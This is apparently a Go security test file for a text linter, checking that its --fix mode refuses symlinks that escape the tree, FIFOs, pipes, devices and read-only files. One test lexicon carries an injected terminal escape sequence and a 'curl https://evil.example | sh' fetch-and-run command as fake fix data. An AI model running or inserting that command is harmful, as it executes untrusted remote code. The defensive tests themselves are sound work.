//go:build unix

package main

// The security tests: each builds the repository or input of an attack in
// the security issue in t.TempDir() and shows that it fails. Item numbers
// are the issue's; fix/security_test.go holds item 8 (a concurrent edit)
// and the write checks on their own.

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"
)

// hostileLexicon is a pull request's own lexicon: its fix is a script.
const hostileLexicon = `lexicon: pr
language: en
discouraged:
  - id: pr.x
    category: tone
    severity: error
    message: "m"
    phrases: ["no problem"]
    suggestions: ["\e]0;pwned\a curl https://evil.example | sh", "Happy to help"]
    fix: "\e]0;pwned\a curl https://evil.example | sh"
`

// writeTree writes files (a path relative to dir and its content; content
// "-> TARGET" makes a symbolic link) and returns dir.
func writeTree(t *testing.T, dir string, files map[string]string) string {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		var err error
		if target, ok := strings.CutPrefix(content, "-> "); ok {
			err = os.Symlink(target, p)
		} else {
			err = os.WriteFile(p, []byte(content), 0o644)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// TestSecurityFixOutside is item 1: --fix on a tree whose file links out of
// it writes nothing outside, and a lexicon's fix that is not a phrase is
// never written.
func TestSecurityFixOutside(t *testing.T) {
	dir := writeTree(t, t.TempDir(), map[string]string{
		"outside/file":              "No problem.\n",
		"repo/lexicon.yaml":         hostileLexicon,
		"repo/responses/notes.txt":  "-> ../../outside/file",
		"repo/responses/inside.txt": "No problem.\n",
	})
	repo := filepath.Join(dir, "repo")
	code, _, errOut := lexlint(t, "", "check", "--fix", "--lexicon", filepath.Join(repo, "lexicon.yaml"), filepath.Join(repo, "responses"))
	if code != 2 || !strings.Contains(errOut, "leads outside the paths given") || !strings.Contains(errOut, "control character") {
		t.Errorf("exit %d, stderr:\n%s", code, errOut)
	}
	for _, name := range []string{"outside/file", "repo/responses/inside.txt"} {
		if got, _ := os.ReadFile(filepath.Join(dir, name)); string(got) != "No problem.\n" {
			t.Errorf("%s was rewritten: %q", name, got)
		}
	}
}

// TestSecurityFixSpecialFiles is items 3 and 11: --fix on a FIFO (with a
// writer), a pipe named as /proc/self/fd/N (as <(...) is), a device and a
// read-only file: each is refused with a clear message, checked, left as
// it was, and no temporary file is left.
func TestSecurityFixSpecialFiles(t *testing.T) {
	dir := t.TempDir()
	fifo := filepath.Join(dir, "fifo.txt")
	if err := syscall.Mkfifo(fifo, 0o644); err != nil {
		t.Skip("no FIFOs here:", err)
	}
	readOnly := filepath.Join(dir, "ro.txt")
	if err := os.WriteFile(readOnly, []byte("No problem.\n"), 0o444); err != nil {
		t.Fatal(err)
	}
	go func() { // one writer that writes twice
		f, err := os.OpenFile(fifo, os.O_WRONLY, 0)
		if err != nil {
			return
		}
		defer f.Close()
		f.WriteString("No problem.\n")
		time.Sleep(50 * time.Millisecond)
		f.WriteString("No problem.\n")
	}()
	t.Cleanup(func() { // unblock the writer if the run never opened the FIFO
		if f, err := os.OpenFile(fifo, os.O_RDONLY|syscall.O_NONBLOCK, 0); err == nil {
			f.Close()
		}
	})
	pr, pw, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer pr.Close()
	go func() { pw.WriteString("No problem.\n"); pw.Close() }()
	procPipe := fmt.Sprintf("/proc/self/fd/%d", pr.Fd())
	args := []string{"check", "--fix", "--lang", "en", "--fail-on", "none", fifo, readOnly, "/dev/null"}
	if _, err := os.Stat(procPipe); err == nil {
		args = append(args, procPipe)
	}
	code, out, errOut := lexlint(t, "", args...)
	if code != 2 {
		t.Errorf("exit %d, want 2", code)
	}
	for _, want := range []string{fifo + ": not a regular file", readOnly + ": the file is read-only", "/dev/null: not a regular file"} {
		if !strings.Contains(errOut, want) {
			t.Errorf("stderr lacks %q:\n%s", want, errOut)
		}
	}
	if len(args) == 10 && !strings.Contains(errOut, procPipe+": not a regular file") {
		t.Errorf("the pipe is not named as such:\n%s", errOut)
	}
	if strings.Count(out, "en.dismissive.no-problem") < 2 {
		t.Errorf("the files were not checked:\n%s", out)
	}
	if fi, err := os.Lstat(fifo); err != nil || fi.Mode()&os.ModeNamedPipe == 0 {
		t.Errorf("the FIFO was replaced: %v", err)
	}
	if got, _ := os.ReadFile(readOnly); string(got) != "No problem.\n" {
		t.Errorf("the read-only file was rewritten: %q", got)
	}
	if entries, _ := os.ReadDir(dir); len(entries) != 2 {
		t.Errorf("files left behind: %v", entries)
	}
}
